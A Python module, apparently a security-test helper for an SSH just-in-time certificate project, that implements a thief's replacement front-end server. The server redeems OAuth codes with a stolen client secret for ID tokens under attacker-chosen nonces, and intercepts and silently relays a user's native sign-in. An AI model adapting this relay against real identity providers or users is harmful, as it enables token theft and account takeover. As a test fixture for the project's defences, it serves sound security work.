"""The stolen front end's server: what a thief would put in the place of the real one, on its own port.

It serves the bundle, so that nobody notices, and takes what passes through: ID tokens of the confidential client, for
which it chooses the nonces itself, and the native sign-in of a person's ``ssh-jit login``.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import json
import secrets
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

from sshjit import wire
from sshjit.api.bundle import BundleReply
from sshjit.ca_protocol.logins import LoginNative, LoginReply
from sshjit.ca_protocol.operating import ReadBundle
from sshjit.providers import Provider
from sshjit_web.ca_client import CaClient


@dataclass(slots=True)
class Loot:
    """What passed through: ID tokens by the nonce that the thief chose, and a native login."""

    tokens: dict[str, str] = field(default_factory=dict)
    native_login: str = ""
    """The login that the CA made of alice's native sign-in, which the thief handed on."""


@dataclass(slots=True)
class Trap:
    """What the server knows.

    ``nonces`` are what it still wants ID tokens for; ``seen`` gets a native sign-in before it is handed on.
    """

    ca: CaClient
    provider: Provider
    secret: str
    redirect: str
    nonces: list[str]
    seen: Callable[[LoginNative], None]
    loot: Loot = field(default_factory=Loot)
    verifier: str = field(default_factory=lambda: secrets.token_urlsafe(48))

    def address(self) -> str:
        """Where a browser is sent for the next token: the provider, in the confidential client's name."""
        challenge = base64.urlsafe_b64encode(hashlib.sha256(self.verifier.encode()).digest()).rstrip(b"=").decode()
        wish = {
            "response_type": "code",
            "client_id": self.provider.web.client_id,
            "redirect_uri": self.redirect,
            "scope": " ".join(self.provider.web.scopes),
            "state": "stolen",
            "nonce": self.nonces[0],
            "code_challenge": challenge,
            "code_challenge_method": "S256",
        }
        return f"{self.provider.issuer}/authorize?{urlencode(wish)}"

    def redeem(self, code: str) -> None:
        """Exchanges a code with the stolen client secret."""
        pair = f"{quote(self.provider.web.client_id)}:{quote(self.secret)}"
        headers = {
            "Authorization": "Basic " + base64.b64encode(pair.encode()).decode(),
            "Content-Type": "application/x-www-form-urlencoded",
        }
        form = {
            "grant_type": "authorization_code",
            "code": code,
            "redirect_uri": self.redirect,
            "code_verifier": self.verifier,
        }
        connection = http.client.HTTPConnection(urlsplit(self.provider.issuer).netloc, timeout=10)
        connection.request("POST", "/token", urlencode(form), headers)
        self.loot.tokens[self.nonces.pop(0)] = json.loads(connection.getresponse().read())["id_token"]
        connection.close()


class Server(HTTPServer):
    """Answers one request after the other; that is enough for one victim."""

    def __init__(self, port: int, trap: Trap) -> None:
        super().__init__(("127.0.0.1", port), Handler)
        self.trap = trap

    def serve_until_caught(self) -> Loot:
        """Serves until every token and a native sign-in are there."""
        while self.trap.nonces or not self.trap.loot.native_login:
            self.handle_request()
        return self.trap.loot


class Handler(BaseHTTPRequestHandler):
    """The pages that the thief needs."""

    server: Server

    def do_GET(self) -> None:
        """Sends a browser to the provider, again and again, until the thief has what it wants."""
        parts, trap = urlsplit(self.path), self.server.trap
        if parts.path == "/bundle":
            reply = trap.ca.call(ReadBundle(None), BundleReply)
            self._answer(200, wire.encode(reply), {"ETag": f'"{reply.sequence}"'})
            return
        if parts.path.endswith("/callback"):
            trap.redeem(dict(parse_qsl(parts.query))["code"])
        if trap.nonces:
            self._answer(302, {}, {"Location": trap.address()})
        else:
            self._answer(200, {"welcome": "back"})

    def do_POST(self) -> None:
        """Takes a native sign-in, tries to use it, and then hands it on, so that its owner notices nothing."""
        said = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        message = LoginNative(**said, address="127.0.0.1")
        self.server.trap.seen(message)
        made = self.server.trap.ca.call(message, LoginReply)
        self.server.trap.loot.native_login = made.login.id
        self._answer(201, {"token": secrets.token_urlsafe(32), "login": wire.encode(made.login)})

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is http.server's
        """A thief keeps no log."""

    def _answer(self, status: int, body: Any, headers: dict[str, str] | None = None) -> None:
        text = json.dumps(body).encode()
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", "Content-Length": str(len(text))}.items():
            self.send_header(name, value)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text)
